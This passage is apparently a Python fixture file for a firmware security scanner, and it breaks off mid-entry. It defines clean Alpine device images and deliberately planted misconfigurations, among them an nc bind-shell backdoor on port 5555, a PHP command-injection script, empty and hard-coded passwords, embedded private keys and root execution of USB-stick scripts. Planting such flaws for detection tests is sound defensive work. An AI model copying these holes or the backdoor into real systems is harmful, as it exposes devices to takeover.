"""Alpine: OpenRC runlevels, conf.d, periodic jobs, local.d and the mistakes that are made with them."""

import struct

from firmward.model.memory import Node, executable, link
from firmward.model.tree import Kind
from truth.alpine_base import FSTAB, SSHD_INIT, alpine, bare, confined, nftables, policy, run
from truth.buildroot_base import RAUC_CONF, SWUPDATE_CFG, SWUPDATE_JOB
from truth.openwrt_base import listen, service
from truth.row import Mistake, Truth
from truth.small_base import COMMAND_LINE, ELF, PROGRAM, also, filters, hashed, profile, programs, secret, shadow, shell
from truth.small_keys import (
    ADMIN_SHA512,
    DEVICE_CA,
    EC_KEY,
    EXPIRED_CERTIFICATE,
    PUBLIC_KEY,
    SHORT_KEY_CERTIFICATE,
    SSH_AUTHORIZED,
    SSH_KEY,
    STRONG_SHA512,
    UPDATE_CA,
    VIZXV_DES,
)

OPENRC = "openrc-run(8)"
RUNLEVEL = "rc-update(8): a link in /etc/runlevels starts the service"
LOGIN = '[[account]]\nname = "service"\nlogin = true\nreason = "workshop, by key"\n'

RAUC = {
    "etc/rauc/system.conf": RAUC_CONF,
    "etc/rauc/keyring.pem": UPDATE_CA,
    "etc/periodic/daily/update": executable(
        "#!/bin/sh\nexec rauc install https://updates.maker.example/stable/device.raucb\n"
    ),
    "etc/fw_env.config": "/dev/mmcblk0boot1 0x0 0x4000\n/dev/mmcblk0boot1 0x4000 0x4000\n",
    **programs("usr/bin/rauc", "usr/sbin/fw_setenv"),
}

SWUPDATE = {
    "etc/swupdate.cfg": SWUPDATE_CFG,
    "etc/swupdate/public.pem": PUBLIC_KEY,
    "etc/hwrevision": "maker-device 1.0\n",
    "etc/periodic/daily/update": executable(SWUPDATE_JOB),
    "etc/init.d/mark-good": run("\nstart() {\n\t/usr/libexec/selftest && fw_setenv upgrade_available 0\n}\n"),
    "etc/fw_env.config": "/dev/mmcblk0boot1 0x0 0x4000\n/dev/mmcblk0boot1 0x4000 0x4000\n",
    **programs("usr/bin/swupdate", "usr/sbin/fw_setenv"),
}

SSHD = """\
Include /etc/ssh/sshd_config.d/*.conf
Port 22
HostKey /data/ssh/ssh_host_ed25519_key
PermitRootLogin no
PasswordAuthentication no
KbdInteractiveAuthentication no
AllowUsers service
AllowTcpForwarding no
X11Forwarding no
AllowAgentForwarding no
KexAlgorithms curve25519-sha256
Ciphers aes256-gcm@openssh.com
MACs hmac-sha2-512-etm@openssh.com
# PermitEmptyPasswords yes
"""

# Paths in the file are the device's: the witness makes them the folder's, and gives a host key.
SSHD_SAYS = (
    "ssh-keygen -q -t ed25519 -N '' -f hostkey; "
    "sed -e 's#/etc/ssh/#{root}/etc/ssh/#' -e '/^HostKey/d' etc/ssh/sshd_config > sshd_config; "
    "mkdir -p /run/sshd; sshd -T -h {root}/hostkey -f {root}/sshd_config"
)

SSH_FILES = {
    "etc/ssh/sshd_config": SSHD,
    "etc/init.d/sshd": SSHD_INIT,
    "etc/conf.d/sshd": '# cfgfile="/etc/ssh/sshd_config"\n# command_args="-o PermitRootLogin=yes"\n',
    "etc/apparmor.d/usr.sbin.sshd": profile(
        "/usr/sbin/sshd", "network inet stream", "capability setuid", "/data/ssh/* r"
    ),
    "usr/sbin/sshd": PROGRAM,
}

# A gateway with Secure Boot: its command line is inside the signed image; sshd by key, mosquitto, nftables, RAUC.

MOSQUITTO = """\
per_listener_settings false
allow_anonymous false
password_file /data/mosquitto/passwd
listener 8883
certfile /data/mosquitto/server.crt
keyfile /data/mosquitto/server.key
tls_version tlsv1.3
include_dir /etc/mosquitto/conf.d
"""

BRIDGE = """\
connection cloud
address updates.maker.example:443
topic state/# out 1
bridge_cafile /etc/ssl/certs/maker.pem
bridge_tls_version tlsv1.3
bridge_alpn mqtt
"""

VLANS = """\
auto lo
iface lo inet loopback

auto eth0
iface eth0 inet dhcp

auto eth0.40
iface eth0.40 inet static
	address 192.168.40.1/24
"""

RSH = (
    "service shell\n{\n\tdisable = %s\n\tsocket_type = stream\n\twait = no\n"
    "\tuser = root\n\tserver = /usr/sbin/in.rshd\n}\n"
)

GATEWAY = {
    **alpine(("sshd", 22), ("mosquitto", 101), login="service", default=("sshd", "mosquitto"), boot=("nftables",)),
    **RAUC,
    **SSH_FILES,
    **nftables("tcp dport { 22, 8883 }"),
    "etc/kernel/cmdline": f"root=/dev/mapper/root rootfstype=squashfs {COMMAND_LINE}\n",
    "etc/kernel-hooks.d/secureboot.conf": 'cmdline=/etc/kernel/cmdline\noutput_name="maker.efi"\n',
    "etc/network/interfaces": VLANS,
    "etc/mosquitto/mosquitto.conf": MOSQUITTO,
    "etc/mosquitto/conf.d/bridge.conf": BRIDGE,
    "etc/init.d/mosquitto": confined("mosquitto", "/usr/sbin/mosquitto -c /etc/mosquitto/mosquitto.conf"),
    "etc/apparmor.d/usr.sbin.mosquitto": profile("/usr/sbin/mosquitto", "network inet stream", "/etc/mosquitto/** r"),
    "usr/sbin/mosquitto": PROGRAM,
    "etc/periodic/15min/report": executable('#!/bin/sh\nlogger -t report "$(uptime)"\n'),
    # xinetd is installed and in no runlevel, and its only service is disabled.
    "etc/xinetd.d/rsh": RSH % "yes",
    "etc/xinetd.conf": "defaults\n{\n\tlog_type = SYSLOG daemon info\n}\nincludedir /etc/xinetd.d\n",
    "etc/init.d/xinetd": bare("xinetd", "/usr/sbin/xinetd", "-dontfork"),
    "etc/network/if-up.d": Node(mode=0o755, kind=Kind.DIRECTORY),
    **filters("mosquitto"),
}

GATEWAY_SECTIONS = (
    listen(22, "sshd")
    + listen(8883, "mosquitto")
    + service("sshd")
    + service("mosquitto", "mosquitto", "/data/mosquitto", "32M")
    + service("nftables")
    + LOGIN
    + '[[zone]]\nname = "plant"\nvlan = 40\n'
)

GATEWAY_SYSTEM = Truth(
    name="alpine-gateway",
    distribution="alpine",
    init="openrc",
    clean=GATEWAY,
    policy=policy("gateway", GATEWAY_SECTIONS),
    mistakes=(
        Mistake(
            "kernel-cmdline",
            "kernel-parameters.txt: nokaslr, mitigations, lockdown",
            "nokaslr",
            {
                "etc/kernel/cmdline": "root=/dev/mapper/root rootfstype=squashfs "
                + COMMAND_LINE.replace(
                    "mitigations=auto,nosmt", "mitigations=off nokaslr console=ttyS0,115200"
                ).replace("lockdown=confidentiality ", "")
                + "\n"
            },
        ),
        *also(
            "kernel-parameters.txt",
            ("kernel-cmdline", "mitigations"),
            ("kernel-cmdline", "lockdown"),
            ("serial-console-on-cmdline", "ttyS0"),
        ),
        Mistake(
            "ssh-root-login",
            "sshd_config(5): Include comes first and the first value counts",
            "",
            {
                "etc/ssh/sshd_config.d/00-service.conf": "PermitRootLogin yes\nPasswordAuthentication yes\n"
                "PermitEmptyPasswords yes\nAllowUsers service root\n"
            },
            witness=shell(SSHD_SAYS, "^permitrootlogin yes", "openssh-server"),
        ),
        *also(
            "sshd_config(5), PasswordAuthentication, PermitEmptyPasswords",
            ("ssh-password-login", ""),
            ("ssh-empty-passwords", ""),
        ),
        Mistake(
            "tls-weak",
            "mosquitto.conf(5), bridge_insecure, bridge_tls_version",
            "mosquitto",
            {
                "etc/mosquitto/conf.d/bridge.conf": BRIDGE.replace("tlsv1.3", "tlsv1.1") + "bridge_insecure true\n",
            },
        ),
        Mistake(
            "firewall-default-accept",
            "nft(8), policy of the input hook",
            "",
            {
                "etc/nftables.nft": str(GATEWAY["etc/nftables.nft"]).replace(
                    "input priority 0; policy drop;", "input priority 0; policy accept;"
                )
            },
            witness=shell(
                "nft -c -f etc/nftables.nft && grep 'hook input' etc/nftables.nft", "policy accept", "nftables"
            ),
        ),
        Mistake(
            "segmentation-missing",
            "interfaces(5): the VLAN's interface is gone",
            "plant",
            {"etc/network/interfaces": "auto lo\niface lo inet loopback\n\nauto eth0\niface eth0 inet dhcp\n"},
        ),
        Mistake(
            "cron-unneeded",
            "crontab(5), run-parts(8): root runs a file that anybody may write",
            "report",
            {"etc/periodic/15min/report": executable('#!/bin/sh\nlogger -t report "$(uptime -s)"\n', mode=0o777)},
            witness=shell("find {root} -type f -perm -0002", "15min/report", "findutils"),
        ),
        *also("chmod(1), 0777", ("world-writable", "report"), ("hook-directory-writable", "report")),
        Mistake(
            "remote-shell-enabled",
            "xinetd.conf(5), disable; in.rshd(8)",
            "",
            {
                "etc/xinetd.d/rsh": RSH % "no",
                "etc/runlevels/default/xinetd": link("/etc/init.d/xinetd"),
                "usr/sbin/xinetd": PROGRAM,
                "usr/sbin/in.rshd": PROGRAM,
            },
        ),
        *also(
            "services(5), shell 514/tcp",
            ("undeclared-listener", "514"),
            ("plaintext-protocol", ""),
            ("service-unneeded", "xinetd"),
            ("service-runs-as-root", "xinetd"),
            ("service-unsandboxed", "xinetd"),
            ("mac-profile-missing", ""),
        ),
        Mistake(
            "hook-directory-writable",
            "ifup, run-parts /etc/network/if-up.d; chmod(1), 0777",
            "if-up.d",
            {"etc/network/if-up.d": Node(mode=0o777, kind=Kind.DIRECTORY)},
        ),
        *also("chmod(1), 0777", ("world-writable", "if-up.d")),
        Mistake(
            "update-downgrade-possible",
            "RAUC reference, min-bundle-version",
            "",
            {"etc/rauc/system.conf": RAUC_CONF.replace("min-bundle-version=14.0.0\n", "")},
        ),
        Mistake(
            "image-sameness",
            "crypt(5): one password, however strong, in every gateway",
            "shadow",
            {"etc/shadow": secret(shadow("sshd", "mosquitto", "service", root=STRONG_SHA512))},
        ),
    ),
)


# A panel: nginx with PHP, iptables, SWUpdate.

NGINX = """\
user nginx;
worker_processes 1;
events { worker_connections 64; }
http {
	server_tokens off;
	ssl_protocols TLSv1.2 TLSv1.3;
	ssl_ciphers ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-ECDSA-AES256-GCM-SHA384;
	include /etc/nginx/http.d/*.conf;
}
"""

SITE = """\
server {
	listen 443 ssl;
	ssl_certificate /data/nginx/server.pem;
	ssl_certificate_key /data/nginx/server.key;
	add_header Content-Security-Policy "default-src 'self'";
	add_header Strict-Transport-Security "max-age=31536000";
	root /usr/share/panel;
	autoindex off;
	location ~ \\.php$ {
		fastcgi_pass unix:/run/php-fpm.sock;
		fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
	}
}
"""

RULES = """\
*filter
:INPUT DROP [0:0]
:FORWARD DROP [0:0]
:OUTPUT DROP [0:0]
-A INPUT -i lo -j ACCEPT
-A INPUT -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT
-A INPUT -s 192.168.0.0/16 -p tcp -m tcp --dport 443 -j ACCEPT
-A OUTPUT -o lo -j ACCEPT
-A OUTPUT -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT
-A OUTPUT -d 192.0.2.53/32 -p udp -m udp --dport 53 -j ACCEPT
-A OUTPUT -d 198.51.100.10/32 -p tcp -m tcp --dport 443 -j ACCEPT
-A OUTPUT -p udp -m udp --sport 68 --dport 67 -j ACCEPT
COMMIT
"""

SAVED = run(
    '\n: ${IPTABLES_SAVE:="/etc/iptables/rules-save"}\n\ndepend() {\n\tbefore net\n\tprovide firewall\n}\n\n'
    'start() {\n\tiptables-restore < "$IPTABLES_SAVE"\n}\n'
)

PANEL = {
    **alpine(("nginx", 100), ("panel", 102), default=("nginx", "php-fpm", "paneld"), boot=("iptables", "ip6tables")),
    **SWUPDATE,
    "etc/init.d/iptables": SAVED,
    "etc/init.d/ip6tables": run("\nstart() {\n\tip6tables-restore < /etc/iptables/rules6-save\n}\n"),
    "etc/conf.d/iptables": 'IPTABLES_SAVE="/etc/iptables/rules-save"\nSAVE_ON_STOP="no"\n',
    "etc/iptables/rules-save": RULES,
    "etc/iptables/rules6-save": "*filter\n:INPUT DROP [0:0]\n:FORWARD DROP [0:0]\n:OUTPUT DROP [0:0]\nCOMMIT\n",
    "etc/nginx/nginx.conf": NGINX,
    "etc/nginx/http.d/panel.conf": SITE,
    "etc/init.d/nginx": confined(
        "nginx", "/usr/sbin/nginx -g 'daemon off;' -c /etc/nginx/nginx.conf", "nginx", "cap_net_bind_service"
    ),
    "etc/apparmor.d/usr.sbin.nginx": profile(
        "/usr/sbin/nginx", "network inet stream", "/etc/nginx/** r", "/usr/share/panel/** r"
    ),
    "usr/sbin/nginx": PROGRAM,
    "etc/init.d/php-fpm": confined("php-fpm", "/usr/sbin/php-fpm84 -F -y /etc/php84/php-fpm.conf", "nginx"),
    "etc/php84/php-fpm.conf": "[www]\nuser = nginx\ngroup = nginx\nlisten = /run/php-fpm.sock\nlisten.mode = 0660\n"
    "pm = static\npm.max_children = 2\n",
    "usr/sbin/php-fpm84": PROGRAM,
    "etc/apparmor.d/usr.sbin.php-fpm84": profile("/usr/sbin/php-fpm84", "/etc/php84/* r", "/usr/share/panel/** r"),
    "usr/share/panel/ping.php": "<?php\n$host = filter_var($_GET['host'] ?? '', FILTER_VALIDATE_IP);\n"
    "if ($host !== false) {\n    echo htmlspecialchars(shell_exec('ping -c 1 ' . escapeshellarg($host)));\n}\n",
    "etc/panel/config.xml": "<config>\n  <server>updates.maker.example</server>\n  <password></password>\n</config>\n",
    "etc/init.d/paneld": confined("paneld", "/usr/bin/paneld $PANELD_OPTS", "panel"),
    "etc/conf.d/paneld": 'PANELD_OPTS="--socket /run/paneld.sock"\n# PANELD_OPTS="--listen 0.0.0.0:6000"\n',
    "usr/bin/paneld": PROGRAM,
    # busybox-extras brings it, no runlevel has it.
    "etc/init.d/telnetd": bare("telnetd", "/usr/sbin/telnetd", "-F -l /bin/login"),
    "root/.ssh/known_hosts": "updates.maker.example " + " ".join(SSH_AUTHORIZED.split()[:2]) + "\n",
    **filters("nginx", "php-fpm", "paneld"),
}

PANEL_SECTIONS = (
    listen(443, "nginx")
    + service("nginx", "nginx", "/data/nginx", "32M")
    + service("php-fpm", "nginx", "/data/php-fpm", "32M")
    + service("paneld", "panel", "/data/paneld", "32M")
    + service("iptables")
    + service("ip6tables")
)

PANEL_SYSTEM = Truth(
    name="alpine-panel",
    distribution="alpine",
    init="openrc",
    clean=PANEL,
    policy=policy("panel", PANEL_SECTIONS, "swupdate"),
    mistaken_policy=policy("panel", PANEL_SECTIONS, "swupdate", until="2026-11-19"),
    mistakes=(
        Mistake(
            "firewall-absent",
            f"{RUNLEVEL}; there is no link any more",
            "",
            without=("etc/runlevels/boot/iptables", "etc/runlevels/boot/ip6tables"),
        ),
        *also("follows from the missing link: no rules for what leaves either", ("egress-unrestricted", "output")),
        Mistake(
            "web-server-misconfigured",
            "nginx, autoindex, stub_status, listen without ssl",
            "nginx",
            {
                "etc/nginx/http.d/status.conf": "server {\n\tlisten 80 default_server;\n"
                "\troot /usr/share/panel;\n\tautoindex on;\n"
                "\tlocation /status {\n\t\tstub_status;\n\t}\n}\n"
            },
        ),
        *also("nginx, listen", ("undeclared-listener", "80"), ("plaintext-protocol", "80")),
        Mistake(
            "script-injection",
            "PHP, shell_exec; $_GET is the client's",
            "ping.php",
            {"usr/share/panel/ping.php": "<?php\n$host = $_GET['host'];\necho shell_exec(\"ping -c 1 $host\");\n"},
            witness=shell(
                "php -l usr/share/panel/ping.php; grep -c escapeshellarg usr/share/panel/ping.php", "^0$", "php-cli"
            ),
        ),
        Mistake(
            "credential-hard-coded",
            "XML 1.0; the password of the maker's server in every panel",
            "config.xml",
            {
                "etc/panel/config.xml": "<config>\n  <server>updates.maker.example</server>\n  <user>panel</user>\n"
                "  <password>Ilex-40-quartz!</password>\n</config>\n"
            },
        ),
        Mistake("image-sameness", "follows from the credential: alike in every copy", "config.xml"),
        Mistake(
            "account-default-password",
            "passwd(5): a hash in the second field counts; the password is admin",
            "admin",
            {
                "etc/passwd": str(PANEL["etc/passwd"]) + f"admin:{ADMIN_SHA512}:1001:1001:admin:/home/admin:/bin/ash\n",
            },
            witness=hashed("6", "Yg0hXq3sT1uPzLk2", "admin", "etc/passwd"),
        ),
        *also("one password for every panel", ("image-sameness", "passwd")),
        Mistake(
            "private-key-embedded",
            "ssh-keygen(1): a private key without passphrase",
            "id_ed25519",
            {"root/.ssh/id_ed25519": secret(SSH_KEY)},
            witness=shell("ssh-keygen -y -P '' -f root/.ssh/id_ed25519", "^ssh-ed25519 AAAA", "openssh-client"),
        ),
        *also("one key for every panel", ("image-sameness", "id_ed25519")),
        Mistake(
            "telnet-enabled",
            RUNLEVEL,
            "telnet",
            {
                "etc/runlevels/default/telnetd": link("/etc/init.d/telnetd"),
                "usr/sbin/telnetd": link("/bin/busybox-extras"),
            },
        ),
        *also(
            "BusyBox telnetd",
            ("plaintext-protocol", "telnet"),
            ("undeclared-listener", "23"),
            ("service-unneeded", "telnetd"),
            ("service-runs-as-root", "telnetd"),
            ("service-unsandboxed", "telnetd"),
            ("mac-profile-missing", "telnetd"),
        ),
        Mistake(
            "service-runs-as-root",
            f"{OPENRC}, command_user",
            "paneld",
            {"etc/init.d/paneld": bare("paneld", "/usr/bin/paneld", "$PANELD_OPTS")},
        ),
        *also(
            f"{OPENRC}, no_new_privs, capabilities, rc_cgroup_settings",
            ("service-unsandboxed", "paneld"),
            ("service-without-limits", "paneld"),
        ),
        Mistake(
            "undeclared-listener",
            f"{OPENRC}: /etc/conf.d is read first",
            "6000",
            {"etc/conf.d/paneld": 'PANELD_OPTS="--listen 0.0.0.0:6000"\n'},
        ),
        *also("follows from the open port: no profile is for the program", ("mac-profile-missing", "paneld")),
        Mistake(
            "advanced-mode-uncontrolled",
            "local.d: the maker's server alone opens the developer's mode",
            "developer",
            {
                "etc/local.d/developer.start": executable(
                    "#!/bin/sh\n# Developer mode: on when the server says so.\n"
                    'if [ "$(wget -qO- "https://updates.maker.example/developer-mode/$(hostname)")" = on ]; then\n'
                    "\ttouch /data/developer-mode\n\tmount -o remount,rw /\n\tpasswd -u root\nfi\n"
                ),
                "etc/init.d/local": run(
                    '\nstart() {\n\tfor file in /etc/local.d/*.start; do\n\t\t"$file"\n\tdone\n}\n'
                ),
                "etc/runlevels/default/local": link("/etc/init.d/local"),
            },
        ),
        Mistake("support-ended", "device.toml, support.until", ""),
    ),
)


# A box that stays a stock Alpine: packages, a writable root; dnsmasq, chrony, sshd by key.

DNSMASQ = """\
interface=eth1
bind-interfaces
domain-needed
bogus-priv
user=dnsmasq
group=dnsmasq
conf-dir=/etc/dnsmasq.d/,*.conf
# enable-tftp
"""

CHRONY = (
    "pool time.maker.example iburst nts\nport 0\ncmdport 0\ndriftfile /data/chronyd/drift\n"
    "ntsdumpdir /data/chronyd\nrtcsync\n"
)

UPGRADE = """\
#!/bin/sh
# Signed indexes only: apk refuses what no key of /etc/apk/keys has signed.
exec apk -U upgrade --no-interactive
"""

BOX = {
    **alpine(
        ("sshd", 22),
        ("dnsmasq", 103),
        ("chrony", 104),
        login="service",
        default=("sshd", "dnsmasq", "chronyd"),
        boot=("nftables",),
    ),
    **SSH_FILES,
    **nftables(
        "tcp dport 22",
        "udp dport { 53, 67 }",
        "tcp dport 53",
        out=("192.0.2.123 udp dport 123", "192.0.2.123 tcp dport 4460", "203.0.113.80 tcp dport 443"),
    ),
    # Who services the box may restart it, and nothing else.
    "etc/doas.d/service.conf": "permit nopass service as root cmd /sbin/reboot\n",
    "usr/bin/doas": executable(ELF, mode=0o4755),
    "etc/update-extlinux.conf": (
        '# default_kernel_opts="nokaslr mitigations=off" is what the test bench had\n'
        f'default_kernel_opts="{COMMAND_LINE}"\noverwrite=1\n'
    ),
    "etc/ssl/certs/ca-certificates.crt": DEVICE_CA + UPDATE_CA,
    "etc/fstab": FSTAB.replace("/dev/mapper/root / squashfs ro,nodev 0 0", "/dev/mapper/root / ext4 rw,relatime 0 1"),
    "etc/periodic/daily/upgrade": executable(UPGRADE),
    "sbin/apk": PROGRAM,
    "etc/init.d/mark-good": run("\nstart() {\n\t/usr/libexec/selftest\n}\n"),
    "etc/dnsmasq.conf": DNSMASQ,
    "etc/init.d/dnsmasq": confined(
        "dnsmasq", "/usr/sbin/dnsmasq -k -C /etc/dnsmasq.conf", capability="cap_net_bind_service"
    ),
    "etc/apparmor.d/usr.sbin.dnsmasq": profile(
        "/usr/sbin/dnsmasq", "network inet dgram", "/etc/dnsmasq.conf r", "/etc/dnsmasq.d/* r"
    ),
    "usr/sbin/dnsmasq": PROGRAM,
    "etc/chrony/chrony.conf": CHRONY,
    "etc/init.d/chronyd": confined("chronyd", "/usr/sbin/chronyd -u chrony -d", "chrony", "cap_sys_time"),
    "etc/apparmor.d/usr.sbin.chronyd": profile(
        "/usr/sbin/chronyd", "network inet dgram", "capability sys_time", "/etc/chrony/* r"
    ),
    "usr/sbin/chronyd": PROGRAM,
    "etc/periodic/15min/tidy": executable("#!/bin/sh\nfind /tmp -type f -mtime +1 -delete\n"),
    **filters("dnsmasq", "chronyd"),
}

BOX_SECTIONS = (
    listen(22, "sshd")
    + listen(53, "dnsmasq", protocol="udp")
    + listen(53, "dnsmasq")
    + listen(67, "dnsmasq", protocol="udp")
    + service("sshd")
    + service("dnsmasq", "dnsmasq", "/data/dnsmasq", "32M")
    + service("chronyd", "chrony", "/data/chronyd", "32M")
    + service("nftables")
    + LOGIN
    + '[[egress]]\nto = "time.maker.example"\nport = 123\nprotocol = "udp"\n'
    + '[[egress]]\nto = "time.maker.example"\nport = 4460\n'
    + '[[egress]]\nto = "dl-cdn.alpinelinux.org"\nport = 443\n'
)

BOX_POLICY = policy("box", BOX_SECTIONS, "other", verified="none").replace(
    'key_store = "tpm"\n', 'key_store = "tpm"\nsetuid = ["/usr/bin/doas"]\n'
)

BOX_SYSTEM = Truth(
    name="alpine-box",
    distribution="alpine",
    init="openrc",
    clean=BOX,
    policy=BOX_POLICY,
    mistaken_policy=BOX_POLICY.replace('after = "local-only"\n', ""),
    low={
        "rootfs-writable": "a stock Alpine changes package by package, in place",
        "rootfs-unverified": "a stock Alpine has no verity below it",
        "privileged-hooks": "with nothing verified every hook lies outside the verified part",
        "hook-directory-writable": "the same",
        "init-script-writable": "the same",
        "update-without-fallback": "apk keeps no second system",
        "update-downgrade-possible": "apk takes what the signed index names",
    },
    mistakes=(
        Mistake(
            "update-unauthenticated",
            "apk(8), --allow-untrusted",
            "upgrade",
            {
                "etc/periodic/daily/upgrade": executable(
                    UPGRADE.replace("apk -U upgrade", "apk -U --allow-untrusted upgrade")
                )
            },
        ),
        Mistake(
            "update-over-plaintext",
            "apk-repositories(5)",
            "repositories",
            {"etc/apk/repositories": "http://dl-cdn.alpinelinux.org/alpine/v3.23/main\n"},
        ),
        Mistake(
            "plaintext-protocol",
            "dnsmasq(8), enable-tftp",
            "tftp",
            {"etc/dnsmasq.d/boot.conf": "enable-tftp\ntftp-root=/srv/tftp\n"},
            witness=shell(
                "dnsmasq --test -C etc/dnsmasq.d/boot.conf && grep enable-tftp etc/dnsmasq.d/boot.conf",
                "^enable-tftp",
                "dnsmasq-base",
            ),
        ),
        *also("dnsmasq(8): port 69", ("undeclared-listener", "69")),
        Mistake(
            "backdoor-listener",
            "local.d; BusyBox nc, -l -e",
            "5555",
            {
                "etc/local.d/remote.start": executable("#!/bin/sh\nwhile :; do nc -l -p 5555 -e /bin/sh; done &\n"),
                "etc/init.d/local": run(
                    '\nstart() {\n\tfor file in /etc/local.d/*.start; do\n\t\t"$file"\n\tdone\n}\n'
                ),
                "etc/runlevels/default/local": link("/etc/init.d/local"),
                "usr/bin/nc": link("/bin/busybox"),
            },
        ),
        *also("BusyBox nc, -p", ("undeclared-listener", "5555")),
        *also("follows from backdoor-listener: no profile is for nc", ("mac-profile-missing", "nc is reached")),
        Mistake(
            "su-unrestricted",
            "bbsuid: su for everybody, set-user-id root",
            "su",
            {"bin/bbsuid": executable(ELF, mode=0o4111), "bin/su": link("/bin/bbsuid")},
        ),
        *also("chmod(1), 4111", ("setuid-unexpected", "bbsuid")),
        Mistake(
            "default-community",
            "snmpd.conf(5), com2sec",
            "public",
            {
                "etc/snmp/snmpd.conf": "agentAddress udp:161\ncom2sec notConfigUser default public\n"
                "group notConfigGroup v2c notConfigUser\nview all included .1\n"
                'access notConfigGroup "" any noauth exact all none none\n',
                "etc/init.d/snmpd": bare("snmpd", "/usr/sbin/snmpd", "-f -c /etc/snmp/snmpd.conf"),
                "etc/runlevels/default/snmpd": link("/etc/init.d/snmpd"),
                "usr/sbin/snmpd": PROGRAM,
            },
        ),
        *also(
            "snmpd.conf(5), agentAddress, v2c",
            ("plaintext-protocol", "snmp"),
            ("undeclared-listener", "161"),
            ("service-unneeded", "snmpd"),
            ("service-runs-as-root", "snmpd"),
            ("service-unsandboxed", "snmpd"),
            ("mac-profile-missing", "snmpd"),
        ),
        Mistake(
            "account-empty-password",
            "passwd(5): an empty second field needs no password",
            "root",
            {"etc/passwd": str(BOX["etc/passwd"]).replace("root:x:0", "root::0")},
            witness=shell('awk -F: \'$2 == "" {print $1, "has none"}\' etc/passwd', "^root has none", "mawk"),
        ),
        Mistake(
            "hook-directory-writable",
            "udhcpc's default.script runs /etc/udhcpc/post-bound/*, and it leads to the data partition",
            "post-bound",
            {"etc/udhcpc/post-bound": link("/data/udhcpc/post-bound")},
        ),
        *also("udhcpc runs it as root", ("privileged-hooks", "post-bound")),
        Mistake(
            "ssh-host-key-baked-in",
            "sshd_config(5), HostKey; ssh-keygen(1)",
            "ssh_host_ed25519_key",
            {
                "etc/ssh/ssh_host_ed25519_key": secret(SSH_KEY),
                "etc/ssh/sshd_config": SSHD.replace("/data/ssh/ssh_host", "/etc/ssh/ssh_host"),
            },
            witness=shell("ssh-keygen -y -P '' -f etc/ssh/ssh_host_ed25519_key", "^ssh-ed25519 AAAA", "openssh-client"),
        ),
        *also(
            "one key for every box",
            ("private-key-embedded", "ssh_host_ed25519_key"),
            ("image-sameness", "ssh_host_ed25519_key"),
        ),
        Mistake(
            "ssh-authorized-key-baked-in",
            "sshd(8), AUTHORIZED_KEYS FILE FORMAT",
            "authorized_keys",
            {"root/.ssh/authorized_keys": secret(SSH_AUTHORIZED)},
        ),
        Mistake(
            "sysctl",
            "sysctl.d(5): Alpine reads /etc/sysctl.conf too",
            "ptrace_scope",
            {
                "etc/sysctl.conf": "kernel.yama.ptrace_scope = 0\nnet.ipv4.conf.all.rp_filter = 0\n"
                "net.ipv4.conf.default.rp_filter = 0\n"
            },
        ),
        *also("sysctl.conf(5)", ("sysctl", "rp_filter")),
        Mistake("expiry-undefined", "device.toml, support.after", ""),
    ),
)


# A sensor hub: nothing listens, it only tells its broker over TLS; SWUpdate.

SENSOR_TOML = """\
[broker]
url = "mqtts://updates.maker.example:443"
ca = "/etc/ssl/certs/maker.pem"
verify = true
# url = "mqtt://test.maker.example:1883"
"""

SENSOR = {
    **alpine(("sensor", 105), default=("sensord",), boot=("nftables",)),
    **SWUPDATE,
    **nftables(),
    "etc/sensor/sensor.toml": SENSOR_TOML,
    "etc/init.d/sensord": confined("sensord", "/usr/bin/sensord --config /etc/sensor/sensor.toml", "sensor"),
    "etc/apparmor.d/usr.bin.sensord": profile(
        "/usr/bin/sensord", "network inet stream", "/etc/sensor/* r", "/dev/i2c-1 rw"
    ),
    "usr/bin/sensord": PROGRAM,
    "usr/bin/sensor-probe": PROGRAM,
    "etc/mdev.conf": "null root:root 0666\ni2c-[0-9] root:sensor 0660\nsd[a-z].* root:root 0600\n",
    "etc/ssl/sensor/root.pem": UPDATE_CA,
    **filters("sensord"),
}

SENSOR_SECTIONS = service("sensord", "sensor", "/data/sensord", "32M") + service("nftables")

USB_JOB = """\
#!/bin/sh
# Takes over what a technician brings on a stick.
for stick in /media/usb*; do
	[ -f "$stick/setup.sh" ] && sh "$stick/setup.sh"
done
"""

SYS_RAWIO = struct.pack("<5I", 0x02000001, 1 << 17, 0, 0, 0)

SENSOR_SYSTEM = Truth(
    name="alpine-sensor",
    distribution="alpine",
    init="openrc",
    clean=SENSOR,
    policy=policy("sensor", SENSOR_SECTIONS, "swupdate"),
    mistaken_policy=policy("sensor", SENSOR_SECTIONS, "none")
    .replace('server = "https://updates.maker.example"\n', "")
    .replace("until = 2027-10-31\n", ""),
    mistakes=(
        Mistake(
            "update-absent",
            "nothing fetches or flashes an image",
            "",
            without=("etc/swupdate.cfg", "etc/swupdate/public.pem", "etc/periodic/daily/update", "usr/bin/swupdate"),
        ),
        Mistake(
            "mac-permissive",
            f"{RUNLEVEL}; without apparmor's link no profile is loaded",
            "",
            without=("etc/runlevels/boot/apparmor",),
        ),
        Mistake(
            "mount-options",
            "fstab(5), mount(8)",
            "/data",
            {"etc/fstab": FSTAB.replace("/data ext4 noauto,nosuid,nodev,noexec", "/data ext4 noauto")},
            witness=shell(
                "findmnt --tab-file {root}/etc/fstab --noheadings --output OPTIONS --target /data --first-only",
                "^noauto$",
                "util-linux",
            ),
        ),
        Mistake(
            "service-without-limits",
            f"{OPENRC}, rc_cgroup_settings, rc_ulimit",
            "sensord",
            {"etc/init.d/sensord": bare("sensord", "/usr/bin/sensord", "--config /etc/sensor/sensor.toml")},
        ),
        *also(
            f"{OPENRC}, command_user, no_new_privs",
            ("service-runs-as-root", "sensord"),
            ("service-unsandboxed", "sensord"),
        ),
        Mistake(
            "capability-unexpected",
            "capabilities(7): cap_sys_rawio",
            "sensor-probe",
            {"usr/bin/sensor-probe": Node(ELF, mode=0o755, xattrs=(("security.capability", SYS_RAWIO),))},
        ),
        Mistake(
            "removable-media-executed",
            "crontab(5), run-parts(8): root runs what a stick brings",
            "usb",
            {"etc/periodic/15min/usb": executable(USB_JOB)},
        ),
        Mistake(
            "key-beside-data",
            "cryptsetup(8), --key-file",
            "data.key",
            {
                "etc/init.d/data": run(
                    "\nstart() {\n\tcryptsetup open --type luks2 --key-file /etc/keys/data.key /dev/mmcblk0p5 data\n"
                    "\tmount /data\n}\n"
                ),
                "etc/keys/data.key": Node(bytes(range(91, 123)), mode=0o600),
            },
        ),
        Mistake("image-sameness", "the key is alike in every copy", "data.key"),
        Mistake(
            "certificate-weak",
